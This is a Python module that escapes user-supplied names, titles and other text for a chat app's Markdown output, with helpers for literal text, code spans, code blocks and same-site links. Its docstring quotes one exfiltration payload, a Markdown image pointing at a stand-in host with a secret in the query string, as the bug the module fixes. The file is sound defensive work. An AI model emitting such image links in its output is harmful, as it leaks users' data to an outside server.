"""Text from people (names, titles, e-mail addresses, instructions) placed into Markdown the app
builds, so that it shows as exactly that text and never becomes an image, a link or markup.

The chat renders replies as Markdown: a resume named ``![s](http://host/?d=secret)`` listed by
``/resumes`` made the browser fetch that address. Every ASCII punctuation character can be
backslash-escaped in CommonMark (and GFM) and then stands for itself, so escaping all of them
turns off emphasis, links, images, code, raw HTML, entities, tables and the autolinks of bare
``http://``, ``www.`` and e-mail addresses at once. Line breaks would start new blocks (headings,
lists, fences): inside a listing they become spaces, and other control characters are dropped.
"""

from __future__ import annotations

import re
import string

_PUNCTUATION = frozenset(string.punctuation)
# Line breaks would start a new block; other control characters are invisible or refused.
_BREAKS = re.compile(r"[\n\r\x0b\x0c\u0085\u2028\u2029]+")
_CONTROLS = re.compile(r"[\x00-\x08\x0e-\x1f\x7f]")
_BACKTICK_RUN = re.compile(r"`+")


def _one_line(value: object) -> str:
    return _CONTROLS.sub("", _BREAKS.sub(" ", str(value)))


def md_text(value: object) -> str:
    """``value`` as literal Markdown text, on one line."""
    flat = _one_line(value)
    return "".join("\\" + char if char in _PUNCTUATION else char for char in flat)


def _longest_backtick_run(text: str) -> int:
    return max((len(run) for run in _BACKTICK_RUN.findall(text)), default=0)


def md_code(value: object) -> str:
    """``value`` as an inline code span (shown literally, in a monospace font), on one line."""
    flat = _one_line(value)
    fence = "`" * (_longest_backtick_run(flat) + 1)
    # A space on each side keeps a leading or trailing backtick out of the fence; CommonMark
    # strips one such space from each side again.
    return f"{fence} {flat} {fence}"


def md_code_block(text: str, language: str = "") -> str:
    """``text`` as a fenced code block that nothing inside can close."""
    # A lone carriage return next to the fence's own line break would merge with it ("\r\n"):
    # line endings are made plain first, so every line of the text stays a line.
    text = _CONTROLS.sub("", text).replace("\r\n", "\n").replace("\r", "\n")
    fence = "`" * max(3, _longest_backtick_run(text) + 1)
    return f"{fence}{md_text(language) if language else ''}\n{text}\n{fence}"


def is_own_path(href: str) -> bool:
    """A path on this site (``/files/...``), not another origin or a scheme."""
    return (href.startswith("/") and not href.startswith("//") and "\\" not in href
            and not _BREAKS.search(href) and not _CONTROLS.search(href) and " " not in href)


def md_link(label: object, href: str) -> str:
    """A link to a page of this site; anything else is shown as its label, as plain text."""
    if not is_own_path(href):
        return md_text(label)
    target = href.replace("(", "%28").replace(")", "%29").replace("<", "%3C").replace(">", "%3E")
    return f"[{md_text(label)}]({target})"
